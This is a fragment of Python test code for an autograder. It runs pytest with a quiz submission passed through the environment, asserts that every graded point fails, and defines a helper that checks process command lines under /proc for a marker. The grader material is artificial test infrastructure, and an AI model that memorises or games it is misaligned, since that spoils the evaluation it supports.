    env = {**os.environ, "QUIZ_SUBMISSION": str(submission)}
    result = run_python(["-m", "pytest", "autograder/", "-q", "-p", "no:cacheprovider"], env=env, timeout=600)
    assert result.returncode == 1 and f"{len(POINTS)} failed" in result.stdout, result.stdout[-2000:]


def _cmdline_has(proc: Path, marker: str) -> bool:
    try:
        return marker in (proc / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return False
